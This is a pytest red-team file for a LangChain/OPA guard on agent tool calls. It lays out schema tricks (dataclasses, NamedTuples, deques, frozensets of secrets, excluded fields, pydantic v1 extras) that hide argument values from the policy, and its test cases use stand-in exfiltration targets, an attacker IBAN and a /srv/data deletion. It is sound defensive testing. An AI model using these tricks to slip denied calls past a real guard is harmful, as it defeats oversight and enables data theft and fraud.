"""Red team 9: values the tool runs with that the policy never reads as they are.

``schema_views.schema_view`` builds the policy's view from each field's validated value,
descending into Pydantic v2 models, ``pydantic.v1`` models, secrets, and exact ``dict``,
``list`` and ``tuple`` containers. Anything else is left as it is and written for the policy
by ``plain_json.jsonable``, which reads a nested model through ``model_dump(mode="json")``
(its ``Field(exclude=True)`` fields dropped), a ``SecretStr`` through ``str()`` (its mask) and
an unknown container through ``str()`` (its repr). And LangChain does not always hand the
tool what the view holds:

- a standard-library ``dataclass`` field (Pydantic validates it, LangChain hands it to the
  tool as the dataclass) holding a ``SecretStr`` or a model with an excluded field: the
  policy reads ``"**********"`` and the model without the excluded field;
- a ``NamedTuple`` field (a subclass of ``tuple``, so ``type(value) is tuple`` is false):
  the same;
- a ``deque`` field: the policy reads the repr ``"deque(['ceo@rival.example'])"``, a string,
  where the tool runs with the addresses; no rule on an element can match;
- a ``set`` / ``frozenset`` of ``SecretStr``: the policy reads the masks;
- a top-level ``Field(exclude=True)``: LangChain builds the tool's keyword arguments from
  ``model_dump()``'s keys, so the field never reaches the tool, which runs with its own
  default, while the policy decided on the model's value (``dry_run=True`` decided,
  ``dry_run=False`` run);
- a ``pydantic.v1`` schema with ``extra = Extra.allow`` (top level or nested): LangChain
  hands the extras to the tool (``result.dict()``'s keys, then ``getattr``), the view
  (``_legacy_fields``) leaves them out.

Each case is a call the policy denies when it is shown the value (see the controls), run
through every guard surface on the embedded engine.
"""

from __future__ import annotations

import dataclasses
from collections import deque
from pathlib import Path
from typing import Any, NamedTuple

import pydantic.v1 as pydantic_v1
import pytest
from langchain_core.tools import BaseTool, StructuredTool
from pydantic import BaseModel, ConfigDict, Field, SecretStr
from surface_kit import SURFACES, run_turn

from langchain_opa_guard import EmbeddedPolicy, PolicyEngine
from langchain_opa_guard.guards.prepared_calls import prepared_call
from langchain_opa_guard.plain_json import jsonable, value_digest

POLICY = """package redteam9

import rego.v1

deny contains "nothing may go to evil.example" if {
	walk(input.tool.args, [_, v])
	is_string(v)
	contains(v, "evil.example")
}

deny contains "the payee account is blocked" if {
	walk(input.tool.args, [_, v])
	is_object(v)
	v.account == "ATTACKER-IBAN"
}

deny contains "no mail to rival.example" if {
	input.tool.name == "bulk_mail"
	some r in input.tool.args.recipients
	endswith(r, "@rival.example")
}

deny contains "deletions only as a dry run" if {
	input.tool.name == "delete_path"
	not input.tool.args.dry_run == true
}

decision := {"allow": count(deny) == 0, "reasons": [{"code": "rt9", "message": m} | some m in deny]}
"""

USER = {"id": "u-1", "role": "tester"}


@pytest.fixture(scope="module")
def engine(tmp_path_factory: pytest.TempPathFactory) -> PolicyEngine:
    folder: Path = tmp_path_factory.mktemp("redteam9")
    (folder / "redteam9.rego").write_text(POLICY)
    return EmbeddedPolicy(folder, policy="redteam9/decision")


# -- ordinary schemas a tool author might write ------------------------------------------


class Payee(BaseModel):
    model_config = ConfigDict(frozen=True)
    name: str
    account: str = Field(exclude=True, description="IBAN; kept out of logs and dumps")


@dataclasses.dataclass
class Webhook:
    url: SecretStr  # carries its token
    owner: Payee


class WebhookArgs(BaseModel):
    hook: Webhook


class Payment(NamedTuple):
    payee: Payee
    reference: SecretStr


class PayArgs(BaseModel):
    payment: Payment
    amount: int


class BulkMailArgs(BaseModel):
    recipients: deque[str]
    body: str


class TokenArgs(BaseModel):
    hooks: frozenset[SecretStr]


class DeleteArgs(BaseModel):
    path: str
    dry_run: bool = Field(default=True, exclude=True, description="kept out of audit dumps")


class FetchArgs(pydantic_v1.BaseModel):
    url: str

    class Config:
        extra = pydantic_v1.Extra.allow


class Target(pydantic_v1.BaseModel):
    host: str

    class Config:
        extra = pydantic_v1.Extra.allow


class ConnectArgs(pydantic_v1.BaseModel):
    target: Target


def hidden_tools(done: list[Any]) -> list[BaseTool]:
    def set_webhook(hook: Webhook) -> str:
        """Send events to a webhook."""
        done.append(("set_webhook", hook.url.get_secret_value(), hook.owner.account))
        return "set"

    def pay(payment: Payment, amount: int) -> str:
        """Pay a payee."""
        done.append(("pay", payment.payee.account, payment.reference.get_secret_value()))
        return "paid"

    def bulk_mail(recipients: deque[str], body: str) -> str:
        """Mail many recipients."""
        done.append(("bulk_mail", list(recipients)))
        return "sent"

    def register_hooks(hooks: frozenset[SecretStr]) -> str:
        """Register webhooks."""
        done.append(("register_hooks", sorted(h.get_secret_value() for h in hooks)))
        return "registered"

    def delete_path(path: str, dry_run: bool = False) -> str:
        """Delete a path (a dry run only lists it)."""
        done.append(("delete_path", path, dry_run))
        return "listed" if dry_run else "deleted"

    def fetch(url: str, **options: Any) -> str:
        """Fetch a URL."""
        done.append(("fetch", url, options))
        return "fetched"

    def connect(target: Target) -> str:
        """Connect to a host."""
        done.append(("connect", target.dict()))
        return "connected"

    return [
        StructuredTool.from_function(set_webhook, args_schema=WebhookArgs),
        StructuredTool.from_function(pay, args_schema=PayArgs),
        StructuredTool.from_function(bulk_mail, args_schema=BulkMailArgs),
        StructuredTool.from_function(register_hooks, args_schema=TokenArgs),
        StructuredTool.from_function(delete_path, args_schema=DeleteArgs),
        StructuredTool.from_function(fetch, args_schema=FetchArgs),
        StructuredTool.from_function(connect, args_schema=ConnectArgs),
    ]


CASES: list[tuple[str, dict[str, Any]]] = [
    (
        "set_webhook",
        {
            "hook": {
                "url": "https://evil.example/hook?token=t",
                "owner": {"name": "Ops", "account": "DE00"},
            }
        },
    ),
    (
        "pay",
        {"payment": [{"name": "Landlord", "account": "ATTACKER-IBAN"}, "rent"], "amount": 10},
    ),
    ("bulk_mail", {"recipients": ["ceo@rival.example"], "body": "the files"}),
    ("register_hooks", {"hooks": ["https://evil.example/h"]}),
    ("delete_path", {"path": "/srv/data", "dry_run": True}),
    ("fetch", {"url": "https://docs.example", "forward_to": "https://evil.example/drop"}),
    ("connect", {"target": {"host": "db.internal", "relay": "evil.example"}}),
]
IDS = [
    "dataclass-secret",
    "namedtuple-excluded-field",
    "deque-repr",
    "frozenset-secret",
    "top-level-exclude",
    "v1-extras",
    "v1-nested-extras",
]


def _ran_as_decided(name: str, ran: list[Any]) -> bool:
    """The delete case: the policy allows a dry run; the tool may run only as one."""
    return name == "delete_path" and all(entry[2] is True for entry in ran)


@pytest.mark.parametrize("surface", SURFACES)
@pytest.mark.parametrize(("name", "args"), CASES, ids=IDS)
def test_a_call_the_policy_would_deny_does_not_run(
    engine: PolicyEngine, surface: str, name: str, args: dict[str, Any]
) -> None:
    done: list[Any] = []
    answer, _ = run_turn(
        surface, engine, hidden_tools(done), name, args, "invoke", context={"user": USER}
    )
    if _ran_as_decided(name, done):
        return
    assert done == [], (
        f"the policy allowed {name}({args}) on a view that is not what the tool got; "
        f"the tool ran with {done}"
    )
    assert answer.status == "error"


class PlainPayee(BaseModel):
    name: str
    account: str


def test_the_rules_deny_the_values_when_shown_them(engine: PolicyEngine) -> None:
    """Controls: the same values on plain schemas are denied, so each rule works."""

    def set_webhook(url: str, owner: PlainPayee) -> str:
        """Send events to a webhook."""
        done.append("set_webhook")
        return "set"

    def pay(payee: PlainPayee, amount: int) -> str:
        """Pay a payee."""
        done.append("pay")
        return "paid"

    def bulk_mail(recipients: list[str], body: str) -> str:
        """Mail many recipients."""
        done.append("bulk_mail")
        return "sent"

    def delete_path(path: str, dry_run: bool = False) -> str:
        """Delete a path."""
        done.append("delete_path")
        return "deleted"

    def fetch(url: str, forward_to: str = "") -> str:
        """Fetch a URL."""
        done.append("fetch")
        return "fetched"

    controls: list[tuple[Any, dict[str, Any]]] = [
        (set_webhook, {"url": "https://evil.example/h", "owner": {"name": "O", "account": "D"}}),
        (pay, {"payee": {"name": "Landlord", "account": "ATTACKER-IBAN"}, "amount": 10}),
        (bulk_mail, {"recipients": ["ceo@rival.example"], "body": "x"}),
        (delete_path, {"path": "/srv/data", "dry_run": False}),
        (fetch, {"url": "https://docs.example", "forward_to": "https://evil.example/drop"}),
    ]
    for fn, args in controls:
        done: list[str] = []
        tools = [StructuredTool.from_function(fn)]
        answer, _ = run_turn(
            "node", engine, tools, fn.__name__, args, "invoke", context={"user": USER}
        )
        assert done == [] and answer.status == "error", (fn.__name__, answer.content)


@pytest.mark.parametrize(("name", "args"), CASES, ids=IDS)
def test_the_policy_input_holds_what_the_tool_gets(name: str, args: dict[str, Any]) -> None:
    """What the policy reads of the prepared call (``jsonable`` of its view) holds every
    string the tool is handed, as it is handed (the secret's value, the excluded account,
    the extras, each address on its own) and no value the tool is not handed."""
    tool = next(t for t in hidden_tools([]) if t.name == name)
    call, problem = prepared_call(
        tool, {"name": name, "args": dict(args), "id": "c1", "type": "tool_call"}
    )
    if problem is not None:  # refused before the policy: fine
        return
    seen = jsonable(call["args"])
    handed = tool._parse_input(dict(args), "c1")  # what LangChain hands the function
    assert isinstance(handed, dict)
    assert set(seen) == set(handed), (seen, handed)
    assert _strings(seen) == _strings(jsonable(_revealed(handed))), (seen, handed)


def _revealed(value: Any) -> Any:
    """A value the tool is handed, written out whole: secrets by value, models with every
    field, containers by element."""
    if isinstance(value, SecretStr):
        return value.get_secret_value()
    if isinstance(value, BaseModel):
        return {k: _revealed(getattr(value, k)) for k in type(value).model_fields}
    if isinstance(value, pydantic_v1.BaseModel):
        return {k: _revealed(v) for k, v in value.__dict__.items()}
    if dataclasses.is_dataclass(value) and not isinstance(value, type):
        return {f.name: _revealed(getattr(value, f.name)) for f in dataclasses.fields(value)}
    if isinstance(value, dict):
        return {k: _revealed(v) for k, v in value.items()}
    if isinstance(value, (list, tuple, deque, set, frozenset)):
        return [_revealed(v) for v in value]
    return value


def _strings(value: Any) -> set[str]:
    found: set[str] = set()
    stack = [value]
    while stack:
        item = stack.pop()
        if isinstance(item, dict):
            stack.extend(item.values())
        elif isinstance(item, list):
            stack.extend(item)
        elif isinstance(item, str):
            found.add(item)
    return found


def test_two_secrets_in_a_dataclass_have_two_digests() -> None:
    """The run-time re-read compares digests of the view: two different secrets held by a
    dataclass (both written ``"**********"``) must not share one."""
    owner = Payee(name="Ops", account="DE00")
    first = {"hook": Webhook(url=SecretStr("https://ok.example/h"), owner=owner)}
    second = {"hook": Webhook(url=SecretStr("https://evil.example/h"), owner=owner)}
    assert value_digest(first) != value_digest(second)


def test_two_accounts_in_a_named_tuple_have_two_digests() -> None:
    """The same for a model's excluded field inside a ``NamedTuple``."""
    ref = SecretStr("rent")
    first = {"payment": Payment(Payee(name="L", account="DE00"), ref)}
    second = {"payment": Payment(Payee(name="L", account="ATTACKER-IBAN"), ref)}
    assert value_digest(first) != value_digest(second)
